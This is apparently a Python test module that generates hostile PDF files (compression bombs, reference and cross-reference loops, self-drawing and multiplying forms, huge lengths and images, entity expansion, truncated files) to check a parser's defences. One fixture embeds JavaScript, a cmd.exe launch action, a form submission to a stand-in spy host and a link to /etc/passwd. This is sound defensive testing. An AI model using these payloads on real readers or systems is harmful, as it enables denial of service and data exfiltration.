"""Hostile PDF files: loops, bombs, wrong lengths, scripts; all written by hand, down to the cross-reference."""

from __future__ import annotations

import random
import zlib

from tests.corpus.hostile.archives import LAUGHS
from tests.corpus.hostile.case import ARTICLE, REFUSED, SPY, Hostile

MB = 1024**2


def stream(content: bytes, entries: str = "", length: int | str | None = None) -> bytes:
    """A stream object; `length` is what it claims."""
    claimed = len(content) if length is None else length
    return f"<< /Length {claimed} {entries} >>\nstream\n".encode() + content + b"\nendstream"


def bomb(size: int, block: bytes = b" ", times: int = 1) -> bytes:
    """`size` bytes of a repeated block, deflated `times` times over."""
    packer = zlib.compressobj(9)
    filler = block * (MB // len(block))
    packed = b"".join(packer.compress(filler) for _ in range(size // MB)) + packer.flush()
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def file_of(objects: list[bytes], trailer: str = "", root: int = 1, size: int | None = None) -> bytes:
    """A PDF of these objects, numbered from 1, with a cross-reference table."""
    data = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for n, content in enumerate(objects, 1):
        places.append(len(data))
        data += f"{n} 0 obj\n".encode() + content + b"\nendobj\n"
    start = len(data)
    data += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    data += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    count = len(objects) + 1 if size is None else size
    data += f"trailer\n<< /Size {count} /Root {root} 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(data)


def text_of(lines: tuple[str, ...] = ARTICLE, width: int = 90) -> bytes:
    """A content stream that writes the lines, broken at `width`, in 16-bit codes that are the letters' own."""
    written, y = ["BT /F1 10 Tf"], 800
    for line in lines:
        row = ""
        for word in [*line.split(), None]:
            if word is None or len(row) + len(word) >= width:
                written.append(f"1 0 0 1 40 {y} Tm <{row.encode('utf-16-be').hex()}> Tj")
                row, y = "", y - 14
            row += f"{' ' if row else ''}{word}"
        y -= 10
    return " ".join([*written, "ET"]).encode()


def cmap(ranges: str | None = None) -> bytes:
    """A table from codes to letters: each 16-bit code is its letter."""
    rows = [f"<{high:02x}00> <{high:02x}ff> <{high:02x}00>" for high in range(256)]
    blocks = [rows[at : at + 100] for at in range(0, 256, 100)]
    body = ranges or "".join(f"{len(b)} beginbfrange\n" + "\n".join(b) + "\nendbfrange\n" for b in blocks)
    return (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def /CMapType 2 def\n"
        f"1 begincodespacerange <0000> <ffff> endcodespacerange\n{body}endcmap end end"
    ).encode()


def article(
    catalog: str = "",
    page: str = "",
    content: bytes | None = None,
    more: list[bytes] | None = None,
    trailer: str = "",
    to_unicode: bytes | None = None,
) -> bytes:
    """A PDF with the article on one page; `more` objects are numbered from 8."""
    return file_of(
        [
            f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            + f" /Resources << /Font << /F1 5 0 R >> /XObject << /X8 8 0 R >> >> {page} >>".encode(),
            content or stream(text_of()),
            b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [6 0 R]"
            b" /ToUnicode 7 0 R >>",
            b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /DW 500"
            b" /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >>"
            b" /FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 /FontBBox [0 -200 1000 800] /Ascent 800"
            b" /Descent -200 /CapHeight 700 /ItalicAngle 0 /StemV 80 >> >>",
            to_unicode or stream(cmap()),
            *(more or []),
        ],
        trailer,
    )


def small(pages: str, *more: bytes) -> bytes:
    """A PDF whose page tree is `pages` (object 2); `more` objects are numbered from 3."""
    return file_of([b"<< /Type /Catalog /Pages 2 0 R >>", pages.encode(), *more])


def many_pages(count: int) -> bytes:
    """A page tree of `count` pages, all one object each, with a short text."""
    kids = " ".join(f"{n} 0 R" for n in range(4, 4 + count))
    content = stream(b"BT /F1 10 Tf (x) Tj ET")
    font = "<< /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    tree = f"<< /Type /Pages /Kids [{kids}] /Count {count} /MediaBox [0 0 595 842] /Resources << /Font {font} >> >>"
    return small(tree, content, *[b"<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>"] * count)


def xref_loop() -> bytes:
    """Each older part of the cross-reference is the same one again."""
    data = article()
    start = data.rindex(b"xref\n0 ")
    return data.replace(b"trailer\n<<", f"trailer\n<< /Prev {start} ".encode())


def object_stream_loop() -> bytes:
    """An object stream that is said to lie in itself, and one that extends itself."""
    inside = stream(b"3 0 << /Type /Page >>", "/Type /ObjStm /N 1 /First 4 /Extends 3 0 R")
    entries = b"".join(
        bytes([kind, place >> 8, place & 255, n]) for kind, place, n in ((0, 0, 255), (2, 3, 0), (2, 3, 1), (2, 3, 0))
    )
    body = b"%PDF-1.7\n3 0 obj\n" + inside + b"\nendobj\n"
    table = stream(entries, f"/Type /XRef /Size 4 /W [1 2 1] /Root 1 0 R /Prev {len(body)}")
    return body + b"4 0 obj\n" + table + f"\nendobj\nstartxref\n{len(body)}\n%%EOF".encode()


def encrypted() -> bytes:
    """What the standard handler writes for a password to open, with keys that no password fits."""
    noise = random.Random(4)
    keys = f"/O <{noise.randbytes(32).hex()}> /U <{noise.randbytes(32).hex()}> /P -4"
    handler = f"<< /Filter /Standard /V 2 /R 3 /Length 128 {keys} >>".encode()
    mark = f"[<{noise.randbytes(16).hex()}> <{noise.randbytes(16).hex()}>]"
    return article(content=stream(noise.randbytes(600)), more=[b"null", handler], trailer=f"/Encrypt 9 0 R /ID {mark}")


def scripts() -> bytes:
    """A report that runs, launches, sends and fetches when opened in a program that does such things."""
    actions = (
        f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{SPY}'\\)) >>"
        f" /AA << /WC << /S /Launch /F (cmd.exe) >> /WS << /S /SubmitForm /F ({SPY}) >> >>"
        " /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (evil-script) >>] >> >>"
    )
    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///etc/passwd) >> >>"
    return article(actions, f"/Annots [{link}] /AA << /O << /S /URI /URI ({SPY}) >> >>")


def forms_in_themselves() -> bytes:
    """A form that draws itself, twice."""
    form = stream(
        b"/X8 Do /X8 Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X8 8 0 R >> >>"
    )
    return article(content=stream(text_of() + b" /X8 Do"), more=[form])


def doubling_forms(depth: int = 40) -> bytes:
    """Forms that each draw the next one ten times: 10 ** depth drawings, and no loop."""
    head = "/Type /XObject /Subtype /Form /BBox [0 0 9 9]"
    forms = [
        stream(b"/X8 Do " * 10, f"{head} /Resources << /XObject << /X8 {n} 0 R >> >>") for n in range(9, 8 + depth)
    ]
    return article(content=stream(text_of() + b" /X8 Do"), more=[*forms, stream(b"0 0 m", head)])


def predictor() -> bytes:
    """A small stream whose rows are said to be a billion wide."""
    packed = stream(
        zlib.compress(text_of()), "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1000000000 /Colors 32 >>"
    )
    return article(content=packed)


def filters_in_filters() -> bytes:
    """A gigabyte, deflated three times over, in few bytes."""
    return article(content=stream(bomb(1024 * MB, b" ", 3), "/Filter [/FlateDecode /FlateDecode /FlateDecode]"))


def image(width: int) -> bytes:
    picture = stream(
        zlib.compress(bytes(1000)),
        f"/Type /XObject /Subtype /Image /Width {width} /Height {width} /BitsPerComponent 8 /ColorSpace /DeviceRGB"
        " /Filter /FlateDecode",
    )
    return article(content=stream(text_of() + b" /X8 Do"), more=[picture])


def form_with_entities() -> bytes:
    packet = stream((LAUGHS + "<xdp>&a9;</xdp>").encode())
    return article("/AcroForm << /XFA 8 0 R /Fields [] >> /Metadata 8 0 R", more=[packet])


def cut(share: float) -> bytes:
    whole = article()
    return whole[: int(len(whole) * share)]


_ALL_CODES = "1 beginbfrange <00000000> <ffffffff> <0000> endbfrange\n"
_LETTERS = b"BT /F1 9 Tf <0041> Tj ET\n"
_KIDS_LOOP = "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"

PDFS = (
    Hostile("scripts.pdf", scripts, never=("root:x:0:0", "evil-script")),
    Hostile("password.pdf", encrypted, "mật khẩu|mã hóa"),
    Hostile(
        "pages-loop.pdf", lambda: small(_KIDS_LOOP, b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 3 0 R >>"), REFUSED
    ),
    Hostile("pages-count.pdf", lambda: small("<< /Type /Pages /Kids [] /Count 2000000000 >>"), REFUSED),
    Hostile("pages-100k.pdf", lambda: many_pages(100_000), REFUSED, slow=True),
    Hostile("pages-10k.pdf", lambda: many_pages(10_000), REFUSED, slow=True),
    Hostile("xref-loop.pdf", xref_loop, REFUSED),
    Hostile("xref-size.pdf", lambda: article().replace(b"xref\n0 8", b"xref\n0 2000000000")),
    Hostile("object-stream-loop.pdf", object_stream_loop, REFUSED),
    Hostile("length-huge.pdf", lambda: article(content=stream(text_of(), length=10**12)), REFUSED),
    Hostile("length-negative.pdf", lambda: article(content=stream(text_of(), length=-1))),
    Hostile("length-of-itself.pdf", lambda: article(content=stream(text_of(), length="4 0 R")), REFUSED),
    Hostile("reference-loop.pdf", lambda: article(content=b"8 0 R", more=[b"9 0 R", b"8 0 R"]), REFUSED, slow=True),
    Hostile(
        "flate-1gb.pdf", lambda: article(content=stream(bomb(1024 * MB), "/Filter /FlateDecode")), "bộ nhớ", slow=True
    ),
    Hostile(
        "flate-drawing.pdf",
        lambda: article(content=stream(bomb(300 * MB, b"q "), "/Filter /FlateDecode")),
        REFUSED,
        slow=True,
    ),
    Hostile(
        "flate-letters.pdf",
        lambda: article(content=stream(bomb(50 * MB, _LETTERS), "/Filter /FlateDecode")),
        REFUSED,
        slow=True,
    ),
    Hostile("filters-in-filters.pdf", filters_in_filters, REFUSED, slow=True),
    Hostile("predictor.pdf", predictor, REFUSED),
    Hostile("form-in-itself.pdf", forms_in_themselves),
    Hostile("forms-doubling.pdf", doubling_forms, REFUSED, slow=True),
    Hostile("image-huge.pdf", lambda: image(1_000_000)),
    Hostile("arrays-deep.pdf", lambda: article(more=[b"[" * 200_000 + b"]" * 200_000], catalog="/X 8 0 R"), slow=True),
    Hostile("content-deep.pdf", lambda: article(content=stream(b"[" * 200_000 + text_of())), REFUSED, slow=True),
    Hostile("string-open.pdf", lambda: article(content=stream(text_of() + b" (" + b"(" * (MB // 8))), slow=True),
    Hostile(
        "string-open-16mb.pdf", lambda: article(content=stream(text_of() + b" (" + b"(" * 16 * MB)), REFUSED, slow=True
    ),
    Hostile("number-long.pdf", lambda: article(content=stream(b"1" * 100_000 + b" " + text_of())), slow=True),
    Hostile("letters-table-huge.pdf", lambda: article(to_unicode=stream(cmap(_ALL_CODES))), REFUSED, slow=True),
    Hostile("form-entities.pdf", form_with_entities),
    Hostile("cut-20.pdf", lambda: cut(0.2), REFUSED),
    Hostile("cut-60.pdf", lambda: cut(0.6), REFUSED),
    Hostile("cut-99.pdf", lambda: cut(0.99), REFUSED),
    Hostile("head-only.pdf", lambda: b"%PDF-1.7\n", REFUSED),
    Hostile("garbage.pdf", lambda: b"%PDF-1.7\n" + random.Random(5).randbytes(MB), REFUSED),
    Hostile("text-as.pdf", lambda: "\n\n".join(ARTICLE).encode()),
    Hostile("pdf-as.txt", article),
)
